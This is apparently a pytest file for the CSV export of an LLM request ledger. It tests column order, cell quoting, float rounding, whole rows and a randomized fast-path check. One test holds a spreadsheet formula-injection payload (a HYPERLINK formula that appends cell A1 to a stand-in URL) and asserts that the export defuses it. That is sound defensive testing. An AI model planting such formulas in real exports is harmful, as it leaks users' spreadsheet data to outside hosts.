"""The CSV of requests: the shared vectors for the column list, the cell rule and whole rows."""

import json
import random
from pathlib import Path

import pytest

from llms.ledger.export import CSV_COLUMNS, ROUNDING, csv_cell, csv_line, csv_lines, csv_values, rounded

VECTORS = json.loads((Path(__file__).parents[2] / "vectors" / "csv.json").read_text(encoding="utf-8"))


def test_the_columns_and_header_are_the_shared_ones():
    assert list(CSV_COLUMNS) == VECTORS["columns"]
    assert next(csv_lines([])) == VECTORS["header"] == ",".join(VECTORS["columns"]) + "\r\n"


@pytest.mark.parametrize("case", VECTORS["cells"], ids=[repr(case["value"])[:40] for case in VECTORS["cells"]])
def test_cell(case):
    assert csv_cell(case["value"]) == case["cell"]


@pytest.mark.parametrize("case", VECTORS["rounding"], ids=[f"{case['column']}={case['value']!r}" for case in VECTORS["rounding"]])
def test_float_noise_is_rounded_per_column(case):
    assert csv_cell(rounded(case["column"], case["value"])) == case["cell"]


def test_the_rounded_columns_and_places_are_the_shared_ones():
    assert ROUNDING == VECTORS["rounding_places"]
    assert set(ROUNDING) <= set(CSV_COLUMNS)


@pytest.mark.parametrize("case", VECTORS["rows"], ids=[case["name"] for case in VECTORS["rows"]])
def test_row(case):
    assert list(csv_lines([case["line"]]))[1] == case["row"]


def test_the_spreadsheet_formula_case_of_the_issue_is_defused_and_quoted():
    assert csv_cell('=HYPERLINK("http://x/?"&A1,"open")') == '"\'=HYPERLINK(""http://x/?""&A1,""open"")"'


def _random_line(rng: random.Random) -> dict:
    """A line with what a ledger line holds and what an unchecked one may: texts that need quotes or start like a
    formula, non-texts where texts go, counts past 2^52, floats with and without noise, missing fields."""
    texts = ["api", "openai", "gpt-4o", "", "=1+2", "-x", "a,b", 'say "hi"', "two\nlines", "a;b", "\tTAB", "x\0=y",
             "ünï", "2026-11-23T10:00:00.000+01:00", None, 5, True, ["a"], {"k": 1}]
    numbers = [None, 0, 0.0, -0.0, 5, 5.0, 7.899999999906868, 0.00656725, 0.004179899999999999, 3.25e-05, 1e-7, 812.5,
               1234.5678, 9000.5, 2 ** 52, 2 ** 60 + 1, -3, True, rng.random(), rng.random() * 10 ** rng.randint(-8, 14),
               round(rng.lognormvariate(7, 0.8), 1)]
    counts = [0, 7, 5.0, 2 ** 52 - 1, 2 ** 52, 2 ** 53 + 1, None, True, 1.5]
    line = {name: rng.choice(texts) for name in ("timestamp", "request_id", "client", "provider", "model",
                                                  "provider_model", "status", "finish_reason", "cost_provenance")}
    line |= {name: rng.choice(numbers) for name in ("cost_usd", "response_ms", "ttft_ms")}
    usage = rng.choice([None, {}, "missing", "full", "full", "full"])
    if usage in ("missing", "full"):
        line["usage"] = None if usage == "missing" else {
            "prompt_tokens": rng.choice(counts), "completion_tokens": rng.choice(counts),
            "prompt_tokens_details": rng.choice([None, {"cached_tokens": rng.choice(counts)},
                                                 {"cached_tokens": rng.choice(counts), "cache_write_tokens": 3}]),
            "completion_tokens_details": {"reasoning_tokens": rng.choice(counts)}}
    else:
        line["usage"] = usage
    line["error"] = rng.choice([None, {"message": rng.choice(texts)}, {"status": 500}, "boom"])
    if rng.random() < 0.3:
        line["messages"] = [{"role": "user", "content": rng.choice(texts)}, {"role": "assistant", "content": "ok"}]
    for name in rng.sample(sorted(line), rng.randint(0, 3)):
        del line[name]  # an absent field reads as null
    return line


def test_the_fast_rows_are_the_rules_rows_on_the_vectors_and_on_random_lines():
    rng = random.Random(5)
    lines = [case["line"] for case in VECTORS["rows"]] + [_random_line(rng) for _ in range(20_000)]
    lines += lines[-500:]  # seen again: their texts' cells come from what the export remembered
    assert list(csv_lines(lines))[1:] == [csv_line(csv_values(line)) for line in lines]
